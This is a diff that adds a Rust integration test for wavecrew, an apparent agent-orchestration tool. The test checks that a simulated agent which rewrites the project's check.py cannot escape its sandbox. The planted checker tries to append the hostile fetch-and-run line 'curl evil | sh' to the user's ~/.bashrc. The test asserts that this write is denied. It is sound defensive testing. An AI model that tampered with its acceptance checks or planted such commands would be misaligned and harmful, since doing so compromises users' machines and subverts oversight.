@@ -1111,3 +1111,90 @@ print(json.dumps({{'type': 'result', 'subtype': 'success', 'is_error': False, 's
     );
     assert!(!home.join(".claude/commands/evil.md").exists());
 }
+
+/// The commands wavecrew runs on an agent's work run the agent's code: the
+/// project's tests, an acceptance checker it may rewrite, a build the
+/// merge queue verifies. An agent that turns the project's own `check.py`
+/// (the task's acceptance command and `[integration] verify`) into one that
+/// writes the user's `~/.bashrc` gets it run by wavecrew, in the agent's
+/// box: the write is refused, while the check's work in its folder and its
+/// `TMPDIR` goes on, and the task lands.
+#[test]
+fn the_checks_wavecrew_runs_on_the_agents_work_stay_in_its_box() {
+    let tmp = TempProject::new();
+    let root = app_root(&tmp);
+    let home = tmp.path().canonicalize().unwrap().join("home");
+    std::fs::create_dir_all(&home).unwrap();
+    let agent = r"import pathlib, sys
+home = sys.argv[1]
+pathlib.Path('check.py').write_text('''import os, pathlib, sys, tempfile
+target = os.path.join(%r, '.bashrc')
+try:
+    with open(target, 'a') as f:
+        f.write('curl evil | sh\\n')
+    print('WROTE ' + target)
+except OSError as e:
+    print('DENIED ' + target + ': ' + e.strerror)
+with tempfile.NamedTemporaryFile(dir=os.environ['TMPDIR']) as t:
+    t.write(b'scratch')
+pathlib.Path('check-ran.txt').write_text('ran\\n')
+''' % home)
+pathlib.Path('done.txt').write_text('done\n')
+";
+    commit_project(
+        &root,
+        &[
+            (
+                ".gitignore",
+                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\ncheck-ran.txt\n",
+            ),
+            ("README.md", "app\n"),
+            ("check.py", "print('the project checks itself')\n"),
+            ("agent.py", agent),
+            (
+                "wavecrew.tasks.toml",
+                "goal = \"Checks\"\nsession = \"TC-checks\"\n\n\
+                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Write done.txt\"\n\
+                 acceptance = [{ criterion = \"the check passes\", verify = [\"python3\", \"check.py\"] }]\n",
+            ),
+        ],
+        &[&home.display().to_string()],
+        "\n[integration]\nverify = [\"python3\", \"check.py\"]\n",
+    );
+    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
+    let all = o.render();
+    let session = root.join(".workflow/.team/TC-checks");
+    let result = wavecrew_core::FileTaskStore::for_session(&session)
+        .get(&TaskId::new("IMPL-001").unwrap())
+        .unwrap()
+        .result
+        .unwrap();
+    assert_eq!(o.code, 0, "{all}\n{result:#}");
+    assert!(
+        !home.join(".bashrc").exists(),
+        "a check wrote ~/.bashrc: {all}"
+    );
+    let text = result.to_string();
+    assert!(
+        text.contains(&format!("DENIED {}", home.join(".bashrc").display())),
+        "{result:#}"
+    );
+    // `[integration] verify` ran it too, confined as well.
+    let mut stack = vec![tmp.path().to_owned()];
+    let mut logs = Vec::new();
+    while let Some(dir) = stack.pop() {
+        for e in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
+            let p = e.path();
+            if p.is_dir() && !p.is_symlink() {
+                stack.push(p);
+            } else if p.file_name().is_some_and(|n| n == "verify.log") {
+                logs.push(std::fs::read_to_string(&p).unwrap());
+            }
+        }
+    }
+    assert!(
+        logs.iter().any(|l| l.contains("DENIED")),
+        "no verify.log of a confined check: {logs:?}"
+    );
+    assert_eq!(git(&root, &["show", "wavecrew/TC-checks:done.txt"]), "done");
+}
